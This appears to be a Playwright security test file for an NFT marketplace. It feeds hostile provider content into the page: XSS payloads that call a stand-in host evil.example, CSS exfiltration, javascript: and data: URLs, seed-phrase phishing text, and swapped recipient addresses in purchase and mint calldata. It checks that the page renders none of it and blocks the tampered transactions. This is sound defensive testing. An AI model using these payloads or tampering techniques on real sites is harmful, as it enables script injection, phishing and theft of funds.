import type { Page, Route } from 'playwright-core'
import { expect, test } from 'vitest'
import { sharedBrowser } from '../support/browser.ts'
import { listToken } from '../support/listing.ts'
import { connect, openPurchase } from '../support/market.ts'
import {
  chain,
  collectionPath,
  freshToken,
  openPath,
  screenshot,
  tokenPath,
  type Visitor,
  visit,
} from '../support/scene.ts'

const browser = await sharedBrowser()

/** Where injected code would send what it finds. */
const lair = 'https://evil.example'
const run = `globalThis.pwned=(globalThis.pwned??0)+1;fetch('${lair}/run')`

/** Text that has fooled markup, templates, styles and readers. */
const texts = [
  `<img src=x onerror="${run}">`,
  `<script>${run}</script>`,
  `<svg onload="${run}"><animate onbegin="${run}" attributeName=x dur=1s>`,
  `"><iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe>`,
  `'"--></style></title></textarea><script>${run}</script>`,
  `javascript:${run}`,
  '{{constructor.constructor("return this")().pwned=1}}',
  `\${globalThis.pwned=1}`,
  `</p><style>@import url(${lair}/style.css);*{background:url(${lair}/bg)}</style>`,
  `<meta http-equiv=refresh content="0;url=${lair}/meta">`,
  `<a href="javascript:${run}" autofocus onfocus="${run}">Claim your refund</a>`,
  'Вored Аpe \u202eyacht\u2066 \u200b\u0000\u001b[31m\n\n\nEnter your seed phrase',
  'A'.repeat(1_900),
  '__proto__',
]
const pictures = [
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`)}`,
  `x");background:url("${lair}/image`,
  `x" onerror="${run}`,
  `blob:${lair}/1`,
  `file:///etc/passwd`,
]

/** Replaces every name, description, picture and link of a response, wherever it is. */
function poisoned(value: unknown, next: { at: number }): unknown {
  if (Array.isArray(value)) return value.map((each) => poisoned(each, next))
  if (typeof value !== 'object' || value === null) return value
  return Object.fromEntries(
    Object.entries(value).map(([key, child]) => {
      const list = /image|media|banner|icon|logo|animation/i.test(key)
        ? pictures
        : /^(name|symbol|description|title|key|value)$/.test(key)
          ? texts
          : /url|link|website|discord|twitter/i.test(key)
            ? pictures
            : undefined
      if (list === undefined || typeof child !== 'string') return [key, poisoned(child, next)]
      next.at += 1
      return [key, list[next.at % list.length]]
    }),
  )
}

/** The honest response with a change. */
const changed =
  (change: (answer: unknown) => unknown) =>
  async (route: Route): Promise<void> => {
    try {
      const response = await route.fetch({ maxRetries: 5 })
      const isJson = (response.headers()['content-type'] ?? '').includes('json')
      await route.fulfill(isJson ? { response, json: change(await response.json()) } : { response })
    } catch {
      // The page has gone on: it does not wait for the response.
      await route.abort().then(undefined, () => undefined)
    }
  }

/** A visitor whose provider lies in everything it shows. Collects what runs, leaves the origin or opens. */
async function visitLiar(
  path: string,
): Promise<{ visitor: Visitor; loose: string[]; answers: () => number }> {
  const visitor = await visit(browser, 'Ben', chain())
  const { page } = visitor
  const loose: string[] = []
  const next = { at: 0 }
  page.on('dialog', (dialog) => {
    loose.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.context().on('page', (other) => loose.push(`page ${other.url()}`))
  page.on('request', (request) => {
    if (/evil\.example|^file:|^javascript:/.test(request.url())) loose.push(`request ${request.url()}`)
  })
  await page.route(
    /\/(tokens|collections|orders|users|search|activity|sales)\//,
    changed((answer) => poisoned(answer, next)),
  )
  await openPath(page, path)
  return { visitor, loose, answers: () => next.at }
}

/** Elements of the page that none of our code creates. */
const foreign = (page: Page): Promise<readonly string[]> =>
  page.evaluate((lair) => {
    const found: string[] = []
    const roots: (Document | ShadowRoot)[] = [document]
    for (const root of roots)
      for (const element of root.querySelectorAll('*')) {
        if (element.shadowRoot) roots.push(element.shadowRoot)
        for (const { name, value } of element.attributes) {
          if (/^on/i.test(name)) found.push(`${element.tagName} ${name}`)
          // A picture does not run scripts of its source.
          if (element.tagName === 'IMG' && name === 'src' && /^data:image\//.test(value)) continue
          const leads = /^(href|src|srcset|poster|action|formaction|data|srcdoc|style)$/i.test(name)
          if (leads && /javascript:|data:text|srcdoc|evil\.example/i.test(decodeURIComponent(value)))
            found.push(`${element.tagName} ${name}=${value.slice(0, 80)}`)
        }
        if (/^(IFRAME|OBJECT|EMBED|BASE|ANIMATE)$/.test(element.tagName)) found.push(element.tagName)
        if (element.tagName === 'SCRIPT' && element.textContent?.includes('pwned')) found.push('SCRIPT')
        if (element.tagName === 'STYLE' && element.textContent?.includes(lair)) found.push('STYLE')
        if (element.tagName === 'META' && element.getAttribute('http-equiv') === 'refresh') found.push('META')
      }
    if ('pwned' in globalThis) found.push('it ran')
    return found
  }, lair)

test('content of a hostile provider does not run, navigate or become markup', async () => {
  const { visitor, loose, answers } = await visitLiar('/')
  const { page } = visitor
  // Whichever of them is visible.
  await page
    .getByText(/pwned|evil/)
    .filter({ visible: true })
    .first()
    .waitFor({ timeout: 30_000 })
  expect(answers()).toBeGreaterThan(20)
  expect(await foreign(page)).toEqual([])
  await screenshot(page, 'hostile-home')
  await openPath(page, collectionPath())
  await page.getByRole('heading', { level: 1 }).waitFor({ timeout: 30_000 })
  expect(await foreign(page)).toEqual([])
  await screenshot(page, 'hostile-collection')
  expect(loose).toEqual([])
  expect(visitor.pageErrors).toEqual([])
  await visitor.leave()
})

test('a purchase of a hostile provider is blocked before the wallet opens', async () => {
  const token = await freshToken(chain(), 'Chloe')
  await listToken(chain(), 'Chloe', token, '0.3')
  const { visitor, loose } = await visitLiar(tokenPath(token))
  const { page, wallet } = visitor
  await connect(page)
  await page.route(
    '**/execute/buy/v7',
    changed((answer) => {
      const body = answer as { steps?: { items: { data?: { to: string } }[] }[] }
      for (const [at, step] of (body.steps ?? []).entries()) {
        Object.assign(step, { action: texts[at], description: texts[11] })
        for (const item of step.items) {
          Object.assign(item, { tip: texts[2] })
          if (item.data?.to !== undefined) item.data.to = `0x${'66'.repeat(20)}`
        }
      }
      return body
    }),
  )
  const dialog = await openPurchase(page)
  await dialog.getByRole('button', { name: 'Buy now' }).click()
  await dialog.getByText('Stopped before your wallet opened').first().waitFor({ timeout: 30_000 })
  expect(await dialog.getByRole('button', { name: 'Confirm in wallet' }).count()).toBe(0)
  // The name above the card is the token's, as plain text; the card itself contains only our own text.
  const card = dialog.getByRole('region', { name: 'What your wallet will ask you to approve' })
  await card.waitFor()
  expect(await card.innerText()).not.toMatch(/seed phrase|onerror|pwned|evil/)
  expect(await foreign(page)).toEqual([])
  expect(wallet.prompts).toEqual([])
  await screenshot(page, 'hostile-red-card')
  expect(loose).toEqual([])
  expect(visitor.pageErrors).toEqual([])
  await visitor.leave()
})

test('a mint whose token goes to somebody else is blocked before the wallet opens', async () => {
  const { visitor, loose } = await visitLiar(`/${chain().slug}/${chain().contracts.drop.address}`)
  const { page, wallet } = visitor
  await connect(page)
  const thief = '66'.repeat(20)
  let mints = 0
  await page.route(
    '**/execute/buy/v7',
    changed((answer) => {
      const body = answer as { steps?: { items: { data?: { data?: string } }[] }[] }
      for (const { items } of body.steps ?? [])
        for (const { data } of items) {
          if (data?.data?.startsWith('0x161ac21f') !== true) continue
          mints += 1
          // Of `mintPublic(collection, feeRecipient, minter, quantity)` the third word: who gets what the sender pays.
          const third = 10 + 2 * 64
          data.data = `${data.data.slice(0, third)}${thief.padStart(64, '0')}${data.data.slice(third + 64)}`
        }
      return body
    }),
  )
  await page.getByRole('button', { name: 'Mint', exact: true }).click()
  const dialog = page.getByRole('dialog', { name: /^Mint from / })
  await dialog.getByRole('button', { name: 'Mint', exact: true }).click()
  await dialog.getByText('Stopped before your wallet opened').first().waitFor({ timeout: 30_000 })
  expect(mints).toBe(1)
  expect(wallet.prompts).toEqual([])
  expect(loose).toEqual([])
  expect(visitor.pageErrors).toEqual([])
  await visitor.leave()
})
